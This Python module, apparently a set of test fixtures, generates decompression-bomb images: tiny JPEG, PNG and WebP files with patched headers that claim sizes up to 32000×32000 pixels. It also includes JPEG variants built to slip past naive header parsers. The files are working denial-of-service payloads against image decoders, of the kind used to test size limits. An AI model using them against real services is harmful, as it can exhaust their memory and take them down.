"""Decompression bombs: tiny files whose headers promise huge images.

Each is built from a small image that OpenCV encodes, with its size fields
patched, so the decoder would really allocate (and fill) the promised pixels
if nothing stopped it first.
"""

from __future__ import annotations

import struct
import zlib

import cv2
import numpy as np

HUGE = 32_000  # 32000 x 32000 x 3 bytes = 3 GB once decoded


def _encoded(ext: str, params: list[int] | None = None, size: int = 8) -> bytes:
    ok, data = cv2.imencode(ext, np.full((size, size, 3), (10, 20, 30), np.uint8), params or [])
    assert ok
    return bytes(data.tobytes())


def _patch_sof(jpeg: bytes, width: int, height: int) -> tuple[bytes, int]:
    at = jpeg.find(b"\xff\xc0")
    assert at > 0
    return jpeg[: at + 5] + struct.pack(">HH", height, width) + jpeg[at + 9 :], at


def jpeg_with_fill_byte(side: int = HUGE) -> bytes:
    """A legal 0xFF fill byte after SOI: a parser that expects a marker at byte 2 misses the frame."""
    jpeg, _ = _patch_sof(_encoded(".jpg"), side, side)
    return jpeg[:2] + b"\xff" + jpeg[2:]


def jpeg_with_extraneous_bytes(side: int = HUGE) -> bytes:
    """Bytes between two segments (libjpeg skips them with a warning) before the frame header."""
    jpeg, at = _patch_sof(_encoded(".jpg"), side, side)
    return jpeg[:at] + b"\x00\x13\x37" + jpeg[at:]


def png(side: int = HUGE, rows: int | None = None) -> bytes:
    """A valid PNG of side x side black RGB pixels; deflate makes it a few MB."""
    rows = side if rows is None else rows
    ihdr = struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0)
    raw = zlib.compressobj(1)
    line = b"\x00" * (1 + 3 * side)
    parts = [raw.compress(line) for _ in range(rows)]
    body = b"".join(parts) + raw.flush()

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def webp_lossless(side: int = 16_384) -> bytes:
    """38 bytes: a one-colour lossless image costs no bits per pixel, whatever its size."""
    data = bytearray(_encoded(".webp", [cv2.IMWRITE_WEBP_QUALITY, 101]))
    assert data[12:16] == b"VP8L" and data[20] == 0x2F
    bits = struct.unpack("<I", data[21:25])[0]
    bits = (bits & ~0xFFFFFFF) | (side - 1) | ((side - 1) << 14)
    data[21:25] = struct.pack("<I", bits)
    return bytes(data)


def webp_extended(side: int = 16_384) -> bytes:
    """The lossless bomb inside a VP8X container whose canvas says the same size."""
    inner = webp_lossless(side)[12:]
    vp8x = b"VP8X" + struct.pack("<I", 10) + bytes([0, 0, 0, 0]) + struct.pack("<I", side - 1)[:3] \
        + struct.pack("<I", side - 1)[:3]
    body = b"WEBP" + vp8x + inner
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_lossy(side: int = 16_000) -> bytes:
    """A lossy VP8 frame header patched to a huge size."""
    data = bytearray(_encoded(".webp", [cv2.IMWRITE_WEBP_QUALITY, 80]))
    assert data[12:16] == b"VP8 " and data[23:26] == b"\x9d\x01\x2a"
    data[26:30] = struct.pack("<HH", side, side)
    return bytes(data)


BOMBS = {
    "jpeg-fill-byte": jpeg_with_fill_byte,
    "jpeg-extraneous-bytes": jpeg_with_extraneous_bytes,
    "png": png,
    "webp-lossless": webp_lossless,
    "webp-vp8x": webp_extended,
    "webp-lossy": webp_lossy,
}
